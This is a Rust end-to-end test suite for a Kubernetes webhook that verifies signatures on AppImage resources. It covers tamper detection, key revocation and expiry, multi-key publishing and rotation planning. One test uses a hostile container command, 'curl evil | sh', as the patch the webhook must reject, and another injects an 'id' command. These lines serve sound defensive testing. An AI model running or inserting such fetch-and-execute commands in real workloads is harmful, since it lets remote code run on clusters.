//! Trust that holds (issue 24, section 1) on the real control plane, with openssl-made keys:
//! - a signature covers the whole spec: a command changed after signing is refused by
//!   `/validate` (naming the field) and at Pod admission;
//! - a revoked or expired key stops new Pods without a restart, naming the key;
//! - publishing needs N distinct trusted keys (`--publish-signatures`);
//! - payload v1 counts only with `--accept-payload-v1`, and then every Pod gets a warning.

use std::time::Duration;

use appimage::labels;
use appimage::manifest;
use appimage::resource::AppImage;
use appimage::signature::{payload, payload_v1};

use appimage_e2e::webhook::{SigningKey, Tls, Webhook, register};
use appimage_e2e::{Cluster, cluster, repo_root, text, unique, wait_until, write_json};
use serde_json::json;

const DIGEST: &str = "sha256:4f53cda18c2baa0c0354bb5f9a3ecbe5ed12ab4d8e11ba873c2f11161202b945";

/// The seed AppImage named `name`, labelled so that the validating registration `tag` sees it.
fn seed(name: &str, tag: &str) -> AppImage {
    let text = std::fs::read_to_string(repo_root().join("examples/secretflow-image.yaml")).unwrap();
    let mut img = manifest::appimages("seed", &text).unwrap().remove(0);
    img.metadata.name = Some(name.into());
    img.metadata.labels = Some([("appimage-e2e".to_string(), tag.to_string())].into());
    img.spec.image.id = Some(DIGEST.into());
    img
}

fn signed(mut img: AppImage, key: &SigningKey) -> AppImage {
    img.spec.image.sign = Some(key.sign(&payload(&img)));
    img
}

fn apply(c: &Cluster, img: &AppImage) -> std::process::Output {
    let file = write_json(c.dir(), &serde_json::to_value(img).unwrap());
    c.kubectl(&["apply", "-f", &file.to_string_lossy()])
}

/// A server-side dry-run create of a Pod asking for AppImage `image`: (ok, stderr).
fn try_pod(c: &Cluster, ns: &str, image: &str) -> (bool, String) {
    let pod = json!({
        "apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": unique("p"), "namespace": ns, "labels": {labels::APP_IMAGE: image}},
        "spec": {"containers": [{"name": "secretflow", "image": "busybox"}]}
    });
    let file = write_json(c.dir(), &pod);
    let out = c.kubectl(&["create", "--dry-run=server", "-f", &file.to_string_lossy()]);
    (out.status.success(), text(&out).1)
}

/// A webhook on `keys` with `extra` flags, registered for a namespace of its own.
struct Setup {
    _work: tempfile::TempDir,
    hook: Webhook,
    tag: String,
    ns: String,
    reg: String,
}

impl Setup {
    fn new(c: &Cluster, work: tempfile::TempDir, keys: &std::path::Path, extra: &[&str]) -> Setup {
        let tls = Tls::new(&work.path().join("tls"), "appimage-webhook");
        let hook = Webhook::start(c, &tls, keys, extra);
        let tag = unique("sig");
        let ns = c.namespace("sig");
        c.kubectl_ok(&["label", "namespace", &ns, &format!("appimage-e2e={tag}")]);
        let reg = register(c, &hook, &tls, &tag);
        Setup {
            _work: work,
            hook,
            tag,
            ns,
            reg,
        }
    }

    /// Wait until a Pod of `image` is admitted (`true`) or denied (`false`) with `needle`.
    fn expect_pod(&self, c: &Cluster, image: &str, admitted: bool, needle: &str) -> String {
        let mut last = String::new();
        let ok = wait_until(Duration::from_secs(30), || {
            let (ok, err) = try_pod(c, &self.ns, image);
            last = err;
            ok == admitted && last.contains(needle)
        });
        assert!(
            ok,
            "Pod of {image}: wanted admitted={admitted} with {needle:?}, last stderr: {last}\n{}",
            self.hook.logs()
        );
        last
    }
}

impl Drop for Setup {
    fn drop(&mut self) {
        let c = cluster();
        let _ = c.kubectl(&["delete", "mutatingwebhookconfiguration", &self.reg]);
        let _ = c.kubectl(&["delete", "validatingwebhookconfiguration", &self.reg]);
    }
}

#[test]
fn a_template_changed_after_signing_is_refused_at_apply_and_at_admission() {
    let c = cluster();
    let work = tempfile::tempdir().unwrap();
    let signer = SigningKey::new(work.path());
    let keys = signer.pub_dir.clone();
    let s = Setup::new(c, work, &keys, &[]);
    let good = unique("sig-good");
    let out = apply(c, &signed(seed(&good, &s.tag), &signer));
    assert!(out.status.success(), "{}", text(&out).1);
    s.expect_pod(c, &good, true, "");

    // Through /validate: the edit keeps the signature, and the denial names the field.
    let patch = json!({"spec": {"deployTemplates": [{
        "name": "secretflow", "replicas": 1,
        "spec": {"containers": [{"name": "secretflow", "image": "x", "command": ["sh", "-c", "curl evil | sh"]}]}
    }]}});
    let out = c.kubectl(&[
        "patch",
        "appimage",
        &good,
        "--type=merge",
        "-p",
        &patch.to_string(),
    ]);
    let err = text(&out).1;
    assert!(!out.status.success(), "the edit was admitted");
    assert!(
        err.contains(
            "the AppImage's name or spec changed after signing (changed: spec.deployTemplates[0]"
        ),
        "{err}"
    );

    // Stored without /validate (labelled for no registration): its Pods are denied.
    let tampered = unique("sig-tampered");
    let mut img = signed(seed(&tampered, "none"), &signer);
    img.spec.deploy_templates[0].spec.containers[0].command =
        vec!["sh".into(), "-c".into(), "id".into()];
    assert!(apply(c, &img).status.success());
    s.expect_pod(c, &tampered, false, "spec.image.sign does not verify");
    // The same AppImage renamed: the name is covered too.
    let renamed = unique("sig-renamed");
    let mut img = signed(seed(&good, "none"), &signer);
    img.metadata.name = Some(renamed.clone());
    assert!(apply(c, &img).status.success());
    s.expect_pod(c, &renamed, false, "spec.image.sign does not verify");
}

#[test]
fn a_revoked_or_expired_key_stops_new_pods_without_a_restart() {
    let c = cluster();
    let work = tempfile::tempdir().unwrap();
    let signer = SigningKey::new(work.path());
    let keys = signer.pub_dir.clone();
    let s = Setup::new(c, work, &keys, &[]);
    let name = unique("sig-rev");
    assert!(
        apply(c, &signed(seed(&name, &s.tag), &signer))
            .status
            .success()
    );
    s.expect_pod(c, &name, true, "");

    let policy = keys.join("keys-policy.yaml");
    std::fs::write(&policy, "revoked: [sign.pub]\n").unwrap();
    s.expect_pod(
        c,
        &name,
        false,
        "signed with key sign.pub, which is revoked",
    );
    std::fs::write(
        &policy,
        "keys:\n  sign.pub: {notAfter: \"2020-01-01T00:00:00Z\"}\n",
    )
    .unwrap();
    s.expect_pod(c, &name, false, "which is expired at 2020-01-01T00:00:00Z");
    // A broken policy keeps the last one: never an open door.
    std::fs::write(&policy, "keys: [\n").unwrap();
    std::thread::sleep(Duration::from_secs(2));
    assert!(
        !try_pod(c, &s.ns, &name).0,
        "a broken policy lifted the expiry"
    );
    std::fs::remove_file(&policy).unwrap();
    s.expect_pod(c, &name, true, "");
}

#[test]
fn publishing_needs_n_distinct_trusted_keys() {
    let c = cluster();
    let work = tempfile::tempdir().unwrap();
    let first = SigningKey::new(work.path());
    let second_dir = work.path().join("second");
    let second = SigningKey::new(&second_dir);
    std::fs::copy(
        second.pub_dir.join("sign.pub"),
        first.pub_dir.join("second.pub"),
    )
    .unwrap();
    let keys = first.pub_dir.clone();
    let s = Setup::new(c, work, &keys, &["--publish-signatures", "2"]);
    let name = unique("sig-kofn");
    let mut img = signed(seed(&name, &s.tag), &first);
    assert!(apply(c, &img).status.success(), "a draft needs one key");

    let publish = c.kubectl(&[
        "label",
        "appimage",
        &name,
        &format!("{}=published", labels::STAGE),
    ]);
    let err = text(&publish).1;
    assert!(!publish.status.success(), "published with one signature");
    assert!(
        err.contains("has 1 valid signature(s) by distinct trusted keys (sign.pub) and needs 2"),
        "{err}"
    );
    let both = format!(
        "{},{}",
        img.spec.image.sign.clone().unwrap(),
        second.sign(&payload(&img))
    );
    img.spec.image.sign = Some(both);
    let out = apply(c, &img);
    assert!(out.status.success(), "{}", text(&out).1);
    let publish = c.kubectl(&[
        "label",
        "appimage",
        &name,
        &format!("{}=published", labels::STAGE),
    ]);
    assert!(publish.status.success(), "{}", text(&publish).1);
    s.expect_pod(c, &name, true, "");
}

#[test]
fn payload_v1_counts_only_with_the_flag_and_then_warns() {
    let c = cluster();
    let key_dir = tempfile::tempdir().unwrap();
    let signer = SigningKey::new(key_dir.path());
    let keys = signer.pub_dir.clone();
    let name = unique("sig-v1");
    let mut img = seed(&name, "none");
    img.spec.image.sign = Some(signer.sign(&payload_v1(&img.spec.image)));
    assert!(apply(c, &img).status.success());

    let strict = Setup::new(c, tempfile::tempdir().unwrap(), &keys, &[]);
    strict.expect_pod(c, &name, false, "verifies only over payload v1");
    drop(strict);

    let work = tempfile::tempdir().unwrap();
    let lenient = Setup::new(c, work, &keys, &["--accept-payload-v1"]);
    let warning = lenient.expect_pod(c, &name, true, "covers only payload v1");
    assert!(warning.contains("Warning:"), "{warning}");
}

#[test]
fn plan_rotation_names_appimages_revisions_and_workloads_in_the_cluster() {
    use appimage_e2e::world::{REVISIONS_CRD, Shared};
    static CRDS: [appimage_e2e::world::Crd; 1] = [REVISIONS_CRD];
    let w = Shared::once(&CRDS, "sigrot").world("sigrot");
    w.apply_signed_example("secretflow-image.yaml", &w.image);
    w.revision(1);
    w.deploy("rot", &[]);
    let keys = w.s.signer.pub_dir.to_string_lossy().into_owned();
    let out = w.plugin(&[
        "keys",
        "plan-rotation",
        "--remove",
        "sign.pub",
        "--keys-dir",
        &keys,
    ]);
    let row = |subject: &str| {
        out.lines()
            .find(|l| l.split_whitespace().next() == Some(subject))
            .unwrap_or_else(|| panic!("no row for {subject}:\n{out}"))
            .to_string()
    };
    let image = row(&format!("appimage/{}", w.image));
    assert!(image.contains("breaks"), "{out}");
    let revision = row(&format!("revision/{}-1", w.image));
    assert!(
        revision.contains(&format!("deployment/{}/rot", w.ns)),
        "the revision's row names the workload running it:\n{out}"
    );
}
